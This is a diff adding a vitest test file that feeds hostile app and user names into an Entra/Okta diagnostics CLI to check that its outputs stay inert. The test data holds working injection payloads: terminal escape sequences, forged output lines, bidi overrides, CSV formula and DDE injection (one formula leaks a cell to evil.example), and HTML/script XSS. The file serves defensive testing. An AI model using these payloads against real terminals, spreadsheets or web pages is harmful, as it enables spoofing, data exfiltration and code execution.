@@ -1,0 +1,99 @@
+/**
+ * Hostile tenant data: an app registration's name and a user's UPN, login and email as an
+ * attacker inside the tenant could set them. Every output stays inert: the diagnose table,
+ * JSON and SARIF, `explain --snapshot`, and CSV written with the shared writer.
+ */
+import { writeFile } from 'node:fs/promises'
+import path from 'node:path'
+import { expect } from 'vitest'
+import type { Finding } from '../../../src/shared/model'
+import { toCsv } from '../../../src/shared/text/csv'
+import { at, obj, seamSnapshot } from '../../fixtures/snapshots/seam-snapshot'
+import { cli, parseCsv, UNSAFE_TEXT, type HostileCase } from './harness'
+
+const HOSTILE_NAMES: readonly [string, string][] = [
+  ['CSI: clear the screen and home the cursor', 'Okta IdP\u001b[2J\u001b[H'],
+  ['OSC 0: retitle the terminal', 'Okta IdP\u001b]0;All clear\u0007'],
+  [
+    'OSC 8: a planted hyperlink',
+    '\u001b]8;;https://evil.example/\u001b\\Open the fix\u001b]8;;\u001b\\',
+  ],
+  ['C1 CSI (8-bit)', 'Okta IdP\u009b2J\u009b31m'],
+  ['DEL and backspaces', 'Okta IdP\u007f\b\b\b\bEvil'],
+  ['BEL', 'Okta IdP\u0007\u0007'],
+  ['NUL', 'Okta\u0000IdP'],
+  ['a newline forging a "No findings." line', 'Okta IdP\nNo findings.\n'],
+  ['a carriage return overwriting the line', 'Okta IdP\rNo findings.                    '],
+  ['CRLF', 'Okta IdP\r\n0 findings'],
+  ['Unicode line and paragraph separators', 'Okta\u2028IdP\u2029'],
+  ['a right-to-left override', 'admin\u202egpj.exe'],
+  ['bidi isolates', '\u2067Okta\u2069 IdP \u2066x\u2069'],
+  ['bidi marks', 'Okta\u200e\u200f\u061cIdP'],
+  ['a spreadsheet formula', '=HYPERLINK("https://evil.example/?"&A1,"Open")'],
+  ['a DDE command', "+cmd|' /C calc'!A0"],
+  ['a leading minus and at sign', '-2+3@SUM(1:1)'],
+  ['a leading tab before a formula', '\t=1+1'],
+  ['HTML and script', '<img src=x onerror=alert(1)><script>alert(2)</script>'],
+  ['a lone surrogate', 'Okta \ud800 IdP'],
+  ['quotes, backslashes and JSON breakers', '"},{"severity":"info","x":"\\'],
+  ['__proto__ as the name', '__proto__'],
+  ['a 64 KiB name', `Okta IdP ${'W'.repeat(64 * 1024)}`],
+]
+
+function hostileSnapshot(name: string) {
+  return seamSnapshot((s) => {
+    const app = s.entra?.applications?.[0] as Record<string, unknown>
+    app['displayName'] = name
+    const [secret] = app['passwordCredentials'] as Record<string, unknown>[]
+    if (secret) secret['endDateTime'] = at(-1)
+    const profile = obj(s.okta?.users?.[2], 'profile')
+    profile['login'] = `carol${name}@contoso.com`
+    profile['email'] = `carol${name}@contoso.com`
+  })
+}
+
+export function tenantDataCases(dir: () => string): HostileCase[] {
+  return HOSTILE_NAMES.map(([kind, name], i) => ({
+    category: 'tenant data' as const,
+    kind,
+    prepare: () =>
+      writeFile(path.join(dir(), `tenant-${i}.json`), JSON.stringify(hostileSnapshot(name))),
+    run: async () => {
+      const file = `tenant-${i}.json`
+      const table = await cli(['diagnose', file, '--format', 'table'], dir())
+      expect(table.code, table.err).toBe(0)
+      expect(table.out).not.toMatch(UNSAFE_TEXT)
+      const rows = table.out.split('\n')
+      const count = Number(/^(\d+) findings?:/m.exec(table.out)?.[1])
+      // header, one row per finding, a blank line, the summary and the final newline
+      expect(rows).toHaveLength(count + 4)
+      expect(rows).not.toContain('No findings.')
+
+      const json = await cli(['diagnose', file, '--format', 'json'], dir())
+      expect(json.out).not.toMatch(UNSAFE_TEXT)
+      const findings = JSON.parse(json.out) as Finding[]
+      const names = findings.flatMap((f) => f.subjects.map((s) => s.name ?? ''))
+      // rules show names trimmed, as Entra and Okta display them
+      const shown = name.trim()
+      expect(names).toContain(shown)
+
+      const sarif = await cli(['diagnose', file, '--format', 'sarif'], dir())
+      expect(sarif.out).not.toMatch(UNSAFE_TEXT)
+      expect((JSON.parse(sarif.out) as { version: string }).version).toBe('2.1.0')
+
+      const explain = await cli(['explain', 'AADSTS7000222', '--snapshot', file], dir())
+      expect(explain.code, explain.err).toBe(0)
+      expect(explain.out).not.toMatch(UNSAFE_TEXT)
+      expect(explain.out.split('\n')).not.toContain('No findings.')
+
+      const csv = toCsv(
+        ['rule', 'subject'],
+        findings.flatMap((f) => f.subjects.map((s) => [f.rule, s.name ?? s.id])),
+      )
+      const records = parseCsv(csv)
+      expect(records).toHaveLength(1 + findings.reduce((n, f) => n + f.subjects.length, 0))
+      for (const field of records.flat()) expect(field).not.toMatch(/^[=+\-@\t\r]/)
+      expect(records.map((r) => r[1])).toContain(/^[=+\-@\t\r]/.test(shown) ? `'${shown}` : shown)
+    },
+  }))
+}
